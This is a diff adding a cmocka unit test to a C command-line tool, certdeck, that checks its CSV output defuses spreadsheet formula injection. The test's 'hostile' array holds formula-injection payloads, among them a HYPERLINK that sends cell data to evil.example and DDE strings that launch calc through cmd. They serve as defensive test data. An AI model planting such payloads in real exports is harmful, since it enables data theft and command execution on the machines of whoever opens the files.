@@ -335,6 +335,93 @@ static void test_rollback_then_detail_shows_it(void **state)
     unsetenv("TENCENTCLOUD_SECRET_KEY");
 }
 
+/* Splits one CSV document into its cells (quotes undone), one heap string per cell. */
+static size_t csv_cells(const char *csv, char ***out)
+{
+    size_t n = 0, cap = 0;
+    char **cells = NULL;
+    const char *p = csv;
+    while (*p) {
+        struct buf cell = {0};
+        buf_puts(&cell, "");
+        if (*p == '"') {
+            for (p++; *p && !(p[0] == '"' && p[1] != '"'); p++) {
+                if (*p == '"') p++;
+                buf_putc(&cell, *p);
+            }
+            if (*p == '"') p++;
+        } else {
+            for (; *p && *p != ',' && *p != '\r'; p++)
+                buf_putc(&cell, *p);
+        }
+        cells = xgrow(cells, &cap, n + 1, sizeof *cells);
+        cells[n++] = cell.data;
+        if (*p == ',') p++;
+        if (*p == '\r') p += 2; /* CRLF ends the row */
+    }
+    *out = cells;
+    return n;
+}
+
+static bool has_cell(char **cells, size_t n, const char *want)
+{
+    for (size_t i = 0; i < n; i++)
+        if (!strcmp(cells[i], want)) return true;
+    return false;
+}
+
+/* A name, domain or error text that a spreadsheet would run as a formula gets a ' in front,
+ * in every CSV certdeck writes; --csv-raw writes the sanitized text as it is. */
+static void test_csv_defuses_formulas(void **state)
+{
+    (void)state;
+    char *ds = tu_testdata("dataset_formulas.json");
+    static const char *const cmds[] = {"records --all", "detail 301 --all"};
+    for (size_t c = 0; c < ARRAY_LEN(cmds); c++) {
+        struct run r = run_cli("--demo --dataset '%s' %s -o csv", ds, cmds[c]);
+        assert_int_equal(r.status, 0);
+        char **cells;
+        size_t n = csv_cells(r.out, &cells);
+        assert_true(n > 6);
+        for (size_t i = 0; i < n; i++) {
+            assert_null(strchr("=+-@\t\r", cells[i][0]) && cells[i][0] ? cells[i] : NULL);
+            free(cells[i]);
+        }
+        free(cells);
+        run_free(&r);
+    }
+    struct run d = run_cli("--demo --dataset '%s' detail 301 -o csv", ds);
+    struct run raw = run_cli("--demo --dataset '%s' detail 301 -o csv --csv-raw", ds);
+    assert_int_equal(d.status, 0);
+    assert_int_equal(raw.status, 0);
+    char **cd, **cr;
+    size_t nd = csv_cells(d.out, &cd), nr = csv_cells(raw.out, &cr);
+    assert_int_equal(nd, nr);
+    static const char *const hostile[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                                          "+SUM(1,1)",
+                                          "@SUM(1+1)*cmd|' /C calc'!A0",
+                                          "-2+3+cmd|' /C calc'!A0",
+                                          " =1+1" /* a tab, sanitized */,
+                                          "^M=1+1" /* a CR, sanitized */};
+    for (size_t i = 0; i < ARRAY_LEN(hostile); i++) {
+        char *quoted = xasprintf("'%s", hostile[i]);
+        assert_true(has_cell(cd, nd, quoted));
+        assert_false(has_cell(cd, nd, hostile[i]));
+        assert_true(has_cell(cr, nr, hostile[i]));
+        free(quoted);
+    }
+    assert_true(has_cell(cd, nd, "safe-name a=b")); /* only the first character counts */
+    for (size_t i = 0; i < nd; i++)
+        free(cd[i]);
+    for (size_t i = 0; i < nr; i++)
+        free(cr[i]);
+    free(cd);
+    free(cr);
+    run_free(&d);
+    run_free(&raw);
+    free(ds);
+}
+
 int main(void)
 {
     signal(SIGPIPE, SIG_IGN);
@@ -349,6 +436,7 @@ int main(void)
         cmocka_unit_test(test_transport_warnings),
         cmocka_unit_test(test_api_and_network_errors),
         cmocka_unit_test(test_rollback_then_detail_shows_it),
+        cmocka_unit_test(test_csv_defuses_formulas),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
